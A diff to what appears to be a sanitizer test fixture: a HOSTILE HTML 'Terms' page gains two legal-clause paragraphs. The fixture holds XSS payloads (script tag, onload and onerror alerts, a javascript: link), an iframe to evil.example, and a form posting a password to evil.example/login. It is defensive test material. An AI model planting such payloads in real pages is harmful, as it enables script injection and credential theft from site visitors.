@@ -30,7 +30,8 @@ HOSTILE = """<!doctype html><html><head><title>Terms</title><style>body{backgrou
 <script>document.title="stolen"</script></head><body onload="alert(1)">
 <h1>Terms <img src="https://evil.example/t.gif" onerror="alert(2)"></h1>
 <form action="https://evil.example/login"><input name="password"></form>
-<p>The Customer owns the Output.</p><iframe src="https://evil.example/"></iframe>
+<p>The Customer owns the Output.</p><p>The parties agree that this agreement is subject to the laws of Ireland.</p>
+<p>Each party must keep the records of the other confidential and may not disclose them.</p><iframe src="https://evil.example/"></iframe>
 <p><a href="javascript:alert(3)">Read more</a></p></body></html>"""
 
 
